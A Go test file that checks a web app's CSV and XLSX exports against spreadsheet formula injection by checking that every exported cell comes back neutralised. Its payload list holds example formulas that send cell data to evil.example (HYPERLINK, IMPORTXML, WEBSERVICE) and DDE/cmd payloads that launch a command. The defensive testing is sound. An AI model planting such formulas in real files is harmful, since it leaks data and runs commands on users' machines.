package web_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"math/rand/v2"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"github.com/storeglass/storeglass/internal/access"
	"github.com/storeglass/storeglass/web/reports"
	"github.com/storeglass/storeglass/web/site"
	"github.com/storeglass/storeglass/web/webtest"
)

// formulaNames are names that a spreadsheet could take for a formula: every sign, after
// everything that a program may skip, before typical formulas.
func formulaNames(n int) []string {
	before := []string{"", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\ufeff", "\u200b", "\u202e", "\u3000", "\x01", "'", "''", `"`, `"'`, "a;", "a; ", "a;\"", "a\t", "a\n", "a\r\n", "a,", `a",`, `a","`, "x|", "0;\t", ";", ";;", "é\n\n", "';"}
	signs := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "==", "=-", "+=", "%=", "\t=", "'=", "-+"}
	does := []string{
		`1+1`, `HYPERLINK("http://evil.example/?x="&A1,"total")`, `cmd|' /C calc'!A0`, `WEBSERVICE("http://evil.example")`, `IMPORTXML(CONCAT("http://evil.example/",A2),"//a")`,
		`DDE("cmd";"/C calc";"x")`, `SUM(1;2)`, `A1;=2+2`, "1\n=2", `"&"x`, `'Sheet 2'!A1`, `5`, `-5`, `1e3`, `_x003D_1`, `IF(1,2,3)` + "\r\n=3", `"` + "\n=4", `1,=5`, "6\t=7", strings.Repeat("A", 300), `😀`, `مرحبا`, "\u2067x", "",
	}
	var all []string
	for _, b := range before {
		for _, s := range signs {
			for _, d := range does {
				all = append(all, b+s+d)
			}
		}
	}
	// Names without a sign are among them: they must come back unchanged.
	all = append(all, "'", "''", "'tis", `"quoted"`, "a=b", "a;b", "1;-2", "plain", " spaced ", "null", "_x0041_", "_x0041_x0041_", "_x005F_", "bell\a escape\x1b", "TRUE", "1/2", "00012", "1e5", strings.Repeat("long words and more of them ", 300))
	slices.Sort(all)
	all = slices.Compact(all)
	random := rand.New(rand.NewPCG(5, 2026))
	random.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	return all[:n]
}

// namedWorld is a world whose own store has each of the names in everything that
// upstream or a person writes and a file shows.
func namedWorld(t *testing.T, names []string) *webtest.World {
	t.Helper()
	w := webtest.NewWorld(t)
	w.OwnLink()
	w.Exec(`update people set role = $1`, string(access.Admin))
	const from = ` from (select id, slug from stores) s, unnest($1::text[], $2::text[]) with ordinality as n(name, other, i) where s.slug = 'acme'`
	other := append(slices.Clone(names[1:]), names[0])
	at := w.Clock.Now().Add(-12 * 60e9)
	each := func(insert string, more ...any) {
		t.Helper()
		w.Exec(insert+from, append([]any{names, other}, more...)...)
	}
	w.Exec(`update stores set name = $1 where slug = 'acme'`, names[0])
	each(`insert into offers (store_id, offer_id, name, status, placement, ab_test, url, created_at_text, first_seen_at, last_listed_at, last_walk)
		select s.id, name, other, other, name, false, other, name, $3::timestamptz, $3::timestamptz, 1`, at)
	each(`insert into top_offers (store_id, window_start, window_end, direction, place, offer_id, name, placement, status, ab_test, revenue, claims, acceptance_rate, deleted, url)
		select s.id, '2026-10-21', '2026-11-19', 'highest', 10 + i, name, other, name, other, false, 1, 1, 0.1, false, name`)
	each(`insert into gift_campaigns (store_id, campaign_id, name, status, type, target_page, code, start_date, end_date, position, first_seen_at, last_listed_at)
		select s.id, name, other, name, other, name, other, name, other, 10 + i, $3::timestamptz, $3::timestamptz`, at)
	each(`insert into gift_widgets (store_id, type, title, is_premium, is_locked, position, first_seen_at, last_listed_at)
		select s.id, name, other, false, false, 10 + i, $3::timestamptz, $3::timestamptz`, at)
	each(`insert into gift_translations (store_id, locale, found, active_languages, total_strings, body, fetched_at)
		select s.id, name, true, array[other], 1, '{"widgets": [], "campaigns": []}', $3`, at)
	each(`insert into ledger (store_id, pull, subject, service, outcome, outcome_text, tried_at, last_good_at, due_at)
		select s.id, 'offer.setup', name, 'upsell', 'failed', to_jsonb(other), $3::timestamptz, $3::timestamptz, $3::timestamptz`, at)
	w.Exec(`update gift_health set body = (select jsonb_agg(jsonb_build_object('code', name, 'message', name)) from unnest($1::text[]) name) where section = 'issues'`, names)
	w.Exec(`update gift_health set body = to_jsonb($1::text[]) where section = 'errors'`, names)
	w.Exec(`insert into stores (slug, name, timezone, history_days) select 'n-' || i, name, 'UTC', 1 from unnest($1::text[]) with ordinality as n(name, i)`, names)
	w.Exec(`insert into people (email, name, role) select 'p' || i || '@example.com', name, 'viewer' from unnest($1::text[]) with ordinality as n(name, i)`, names)
	w.Exec(`insert into groups (name) select name from unnest($1::text[]) name where name <> '' on conflict do nothing`, names)
	w.Exec(`insert into audit (actor, actor_name, action, subject, store_id, store_slug) select 'person', name, 'store.changed', other, s.id, s.slug`+from, names, other)
	return w
}

// given is what comes back from a cell of a file: without one apostrophe at each place where a
// formula could begin.
func given(s string) string {
	var b strings.Builder
	for at := 0; at < len(s); {
		if s[at] == '\'' && site.MayBeginFormula(s[at+1:], at == 0) {
			at++
		}
		end := strings.IndexAny(s[at:], site.CellEnds)
		if end < 0 {
			end = len(s) - at - 1
		}
		b.WriteString(s[at : at+end+1])
		at += end + 1
	}
	return b.String()
}

// asSpreadsheet reads text as spreadsheets do when people open it: cells end at the separator
// of their country, and a quote counts at the start of a cell only.
func asSpreadsheet(text string, separator byte) (rows [][]string) {
	row, cell := []string{}, strings.Builder{}
	end := func() {
		row = append(row, cell.String())
		cell.Reset()
	}
	for at := 0; at < len(text); {
		if cell.Len() == 0 && text[at] == '"' {
			at++
			for at < len(text) {
				if text[at] == '"' {
					if at+1 < len(text) && text[at+1] == '"' {
						at++
					} else {
						at++
						break
					}
				}
				cell.WriteByte(text[at])
				at++
			}
			if cell.Len() == 0 {
				cell.WriteByte(0) // what follows the quotes is no longer a start
			}
			continue
		}
		switch text[at] {
		case separator:
			end()
		case '\n':
			end()
			rows, row = append(rows, row), []string{}
		default:
			cell.WriteByte(text[at])
		}
		at++
	}
	if cell.Len() > 0 || len(row) > 0 {
		end()
		rows = append(rows, row)
	}
	return rows
}

// wouldRun reports whether a spreadsheet would take a cell for a formula, however much it skips
// before the sign.
func wouldRun(cell string) bool {
	cell = strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.C, r) })
	return beginsFormula.MatchString(cell) && !plainNumber.MatchString(cell)
}

func TestAThousandNamesGoThroughEveryFileAndNoneIsAFormula(t *testing.T) {
	t.Parallel()
	names := formulaNames(1000)
	w := namedWorld(t, names)
	b := w.SignedIn()
	files, cells := 0, 0
	lost := map[string]map[string]bool{} // by file: the names that didn't come back
	seek := func(path string) map[string]bool {
		left := map[string]bool{}
		for _, name := range names {
			left[name] = true
		}
		lost[path] = left
		return left
	}
	for _, r := range w.Server.Routes() {
		if r.Method != "GET" || !isFile.MatchString(r.Path) && !strings.HasSuffix(r.Path, ".zip") {
			continue
		}
		path := strings.ReplaceAll(webtest.Address(r, webtest.Own), webtest.Own+"-offer-1", url.PathEscape(names[7]))
		got := b.Get(path)
		if got.Status != 200 {
			t.Errorf("%s: %d %.200s", path, got.Status, got.Body)
			continue
		}
		for name, body := range unpacked(t, r.Path, got.Body) {
			files++
			left := seek(r.Path + name)
			if strings.HasSuffix(r.Path+name, ".csv") {
				for _, separator := range []byte{',', ';', '\t'} {
					for y, row := range asSpreadsheet(body, separator) {
						for _, cell := range row {
							cells++
							if wouldRun(cell) {
								t.Errorf("%s, read with %q, line %d: %.80q", r.Path+name, separator, y+1, cell)
							}
							if separator == ',' {
								delete(left, given(strings.TrimPrefix(cell, "\x00")))
							}
						}
					}
				}
				continue
			}
			book, err := excelize.OpenReader(strings.NewReader(body))
			w.Must(err)
			for _, sheet := range book.GetSheetList() {
				rows, err := book.GetRows(sheet, excelize.Options{RawCellValue: true})
				w.Must(err)
				for _, row := range rows {
					for _, cell := range row {
						cells++
						delete(left, cell)
					}
				}
			}
			w.Must(book.Close())
			onlyTexts(t, r.Path, body)
		}
	}
	if files < 22 {
		t.Fatalf("only %d files", files)
	}
	// The names in a file come back from it unchanged.
	for path, cut := range map[string]int{
		"/stores": 1, // the own store has another name
		"offers":  0, "gift/setup-health": 0, "gift/widgets": 0, "gift/translations": 0, "ledger": 0,
		"gift/campaigns": 900, // the service lists a hundred of them
	} {
		for _, ending := range []string{".csv", ".xlsx"} {
			left := lost["/stores/:slug/"+path+ending]
			if strings.HasPrefix(path, "/") {
				left = lost[path+ending]
			}
			if left == nil {
				t.Errorf("there is no %s%s", path, ending)
			}
			for name := range left {
				if len(left) > cut {
					t.Errorf("%s%s lacks %d names, such as %.80q", path, ending, len(left), name)
				}
				break
			}
		}
	}
	t.Logf("%d names, %d files, %d cells", len(names), files, cells)
}

// unpacked are the files of an archive, or the one file itself under no name.
func unpacked(t *testing.T, path, body string) map[string]string {
	t.Helper()
	if !strings.HasSuffix(path, ".zip") {
		return map[string]string{"": body}
	}
	z, err := zip.NewReader(bytes.NewReader([]byte(body)), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		if !isFile.MatchString(f.Name) {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out["/"+f.Name] = string(text)
	}
	return out
}

// onlyTexts looks at the workbook's own XML: every cell is a text or a plain number, and
// nothing in it is calculated, linked or fetched.
func onlyTexts(t *testing.T, path, body string) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader([]byte(body)), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if regexp.MustCompile(`(?i)externalLink|connections|vba|macro|embedding|activeX|queryTable`).MatchString(f.Name) {
			t.Errorf("%s holds %s", path, f.Name)
		}
		if !strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		decoder, kind := xml.NewDecoder(r), ""
		value := false
		for {
			token, err := decoder.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			switch token := token.(type) {
			case xml.StartElement:
				value = token.Name.Local == "v"
				switch token.Name.Local {
				case "c":
					kind = "n"
					for _, a := range token.Attr {
						if a.Name.Local == "t" {
							kind = a.Value
						}
					}
				case "f", "hyperlink", "dataValidation", "oleObject":
					t.Errorf("%s: %s holds a %s", path, f.Name, token.Name.Local)
				}
			case xml.CharData:
				if value && kind != "s" && kind != "inlineStr" && !plainNumber.MatchString(string(token)) {
					t.Errorf("%s: %s holds %q as %s", path, f.Name, token, kind)
				}
			case xml.EndElement:
				value = false
			}
		}
		_ = r.Close()
	}
}

func TestAnApostropheStandsWhereACellCouldBeginAFormula(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"": "", "plain": "plain", "'tis": "'tis", "a=b": "a=b", "é": "é", "1;2": "1;2",
		"=1+1": "'=1+1", "+49": "'+49", "-5": "'-5", "@x": "'@x", "＝1": "'＝1", "\t=1": "'\t'=1", "\r=1": "'\r'=1", "\tx": "'\tx",
		" =1": "' =1", "\u200b=1": "'\u200b=1", "'=1": "''=1", `"=1`: `'"=1`,
		"a;=1": "a;'=1", "a; -2": "a;' -2", "a\n=1": "a\n'=1", "a;\"=1": "a;'\"=1", "a,=1": "a,=1", "a;'=1": "a;''=1",
	} {
		got := site.Harmless(text)
		if got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
		if back := given(got); back != text {
			t.Errorf("%q becomes %q and gives back %q", text, got, back)
		}
	}
	for _, name := range formulaNames(5000) {
		if back := given(site.Harmless(name)); back != name {
			t.Fatalf("%q becomes %q and gives back %q", name, site.Harmless(name), back)
		}
	}
}

func TestNoCellOfTheHostileStoreBeginsAFormula(t *testing.T) {
	t.Parallel()
	w := hostileWorld(t)
	b := w.SignedIn()
	files, armed := 0, 0
	read := func(path string) {
		t.Helper()
		r := b.Get(path + ".csv")
		if r.Status != 200 {
			t.Fatalf("%s: %d %s", path, r.Status, r.Header.Get("Location"))
		}
		records, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
		w.Must(err)
		for _, record := range records {
			for i, value := range record {
				if beginsFormula.MatchString(value) && !plainNumber.MatchString(value) {
					t.Errorf("%s: %s is %q", path, records[0][i], value)
				}
				if strings.HasPrefix(value, "'") {
					armed++
				}
			}
		}
		book, err := excelize.OpenReader(strings.NewReader(b.Get(path + ".xlsx").Body))
		w.Must(err)
		defer book.Close()
		for _, sheet := range book.GetSheetList() {
			rows, err := book.GetRows(sheet)
			w.Must(err)
			for y, row := range rows {
				for x, value := range row {
					at, err := excelize.CoordinatesToCellName(x+1, y+1)
					w.Must(err)
					kind, err := book.GetCellType(sheet, at)
					w.Must(err)
					formula, err := book.GetCellFormula(sheet, at)
					w.Must(err)
					if formula != "" || beginsFormula.MatchString(value) && kind != excelize.CellTypeSharedString && kind != excelize.CellTypeInlineString && !plainNumber.MatchString(value) {
						t.Errorf("%s: %s of %s is %q of type %v, formula %q", path, at, sheet, value, kind, formula)
					}
				}
			}
		}
		files += 2
	}
	read("/stores")
	read("/alerts")
	for _, e := range reports.Exports {
		if !strings.Contains(e.Path(), ":id") {
			read("/stores/grim/" + e.Path())
			continue
		}
		for _, id := range w.Column(`select offer_id from offers where offer_id like '%<%' or name ~ '^[=+@\t-]' or deleted`) {
			read("/stores/grim/" + strings.ReplaceAll(e.Path(), ":id", url.PathEscape(id)))
		}
	}
	if armed < 10 {
		t.Errorf("only %d cells would have begun a formula", armed)
	}
	t.Logf("%d files, %d cells made harmless", files, armed)
}

var (
	beginsFormula = regexp.MustCompile(`^[=+\-@\t\r\n＝＋－＠]`)
	plainNumber   = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
)
